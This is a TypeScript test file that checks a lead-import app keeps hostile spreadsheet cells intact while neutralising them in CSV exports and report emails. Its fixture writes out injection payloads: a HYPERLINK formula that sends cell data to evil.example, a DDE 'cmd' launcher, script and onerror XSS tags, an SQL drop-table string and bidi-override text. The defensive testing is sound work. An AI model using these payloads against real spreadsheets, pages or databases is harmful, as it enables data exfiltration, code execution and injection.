import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { restoreCell } from "#shared/spreadsheet-cell.ts";
import { openWinnow, type TestWinnow } from "#test/harness.ts";
import { mailSettings, startPeers, type Peers } from "#test/http/endpoint-examples.ts";
import { readCsv } from "#test/http/read-csv.ts";
import { connectSheet, sync } from "#test/http/sheet.ts";
import { oneEngine } from "#test/stores.ts";

/** What people put into cells, and what attackers put there. */
const CELLS = {
  long: "long text ".repeat(10_000).trim(),
  emoji: "👩🏽‍🚀 to the 🌕, e\u0301tude",
  rightToLeft: "שלום \u202eevil\u202c عالم",
  nul: "before\0after",
  halfPair: "half \ud83d of a pair",
  otherHalf: "\udc00 other half",
  noncharacter: "\u{fdd0}0041 is text",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  commandPlus: "+cmd|' /C calc'!A0",
  atSign: "@SUM(1+1)*cmd",
  minus: "-2+3",
  phone: "+49 30 1234567",
  difference: "+1-555-123-4567",
  tab: "\tstarts with a tab",
  html: '<script>alert(1)</script><img src=x onerror="alert(2)">',
  quotes: 'She said ""no"", and; left\r\nfor good',
  apostrophe: "'=kept as written",
  json: '{"a":"\\u0000"}',
  sql: "Robert'); drop table leads;--",
} as const;
const KINDS = Object.keys(CELLS) as (keyof typeof CELLS)[];

/** UTF-8 can't encode half a surrogate pair. */
const HARMLESS = Object.fromEntries(
  KINDS.map((kind) => [kind, { restored: CELLS[kind].toWellFormed(), isFormula: false }]),
);

let peers: Peers;
beforeAll(async () => {
  peers = await startPeers();
});
afterAll(() => peers.close());

describe.each(oneEngine("postgres"))("hostile cells on %s", (engine) => {
  let winnow: TestWinnow;
  beforeAll(async () => {
    winnow = await openWinnow(engine, { google: peers.google });
    await winnow.ok("PUT /api/settings", { body: { qualificationThreshold: 0 } });
    const rows = KINDS.map((kind) => [kind, `${kind}@acme.example`, "Acme", CELLS[kind], CELLS[kind]]);
    await connectSheet(winnow, peers.google, [["Name", "Email", "Company", "Notes", "Color"], ...rows]);
    await sync(winnow);
  });
  afterAll(() => winnow.close());

  test.each(KINDS)("%s reaches the list and the detail unharmed", async (kind) => {
    const [lead] = await winnow.ok("GET /api/leads", { query: { search: `${kind.toLowerCase()}@acme` } });
    expect(lead?.notes).toBe(CELLS[kind]);
    expect(JSON.stringify(lead?.rawData)).toContain(JSON.stringify(CELLS[kind]).slice(1, -1));
    const detail = await winnow.ok("GET /api/leads/{id}", { id: lead?.id ?? "" });
    expect(detail.facts).toEqual([{ name: "Color", value: CELLS[kind] }]);
    expect(detail.notes).toBe(lead?.notes);
  });

  test("are unchanged by another sync", async () => {
    expect(await sync(winnow)).toMatchObject({ unchanged: KINDS.length, updated: 0 });
  });

  test("all reach the file, where none is a formula", async () => {
    const answer = await winnow.app.inject({ url: "/api/leads/export?status=all" });
    expect(cellsOf(answer.rawPayload.toString("utf8"))).toEqual(HARMLESS);
  });

  test("all reach the mail, where none is markup", async () => {
    await winnow.ok("POST /api/email-settings", { body: mailSettings(peers) });
    peers.smtp.messages.length = 0;
    expect((await winnow.ok("POST /api/send-report")).leadCount).toBe(KINDS.length);
    const [received] = peers.smtp.messages;
    const html = String(received?.mail.html);
    expect(html).toContain("sql@acme.example");
    expect(html).not.toMatch(/<script|<img|onerror="/u);
    expect(cellsOf(received?.mail.attachments[0]?.content.toString("utf8") ?? "")).toEqual(HARMLESS);
  });
});

/** Each kind with the value its cell restores to, and whether the raw cell begins like a formula. */
function cellsOf(csv: string): Record<string, { restored: string; isFormula: boolean }> {
  const [headers = [], ...rows] = readCsv(csv.replace(/^\ufeff/u, ""));
  const [name, notes] = [headers.indexOf("Name"), headers.indexOf("Notes")];
  return Object.fromEntries(
    rows.map((row) => {
      const cell = row[notes] ?? "";
      return [
        row[name],
        { restored: restoreCell(cell), isFormula: /^[=+\-@\t\r]/u.test(cell) && !/^\+\d[\d ]+$/u.test(cell) },
      ];
    }),
  );
}
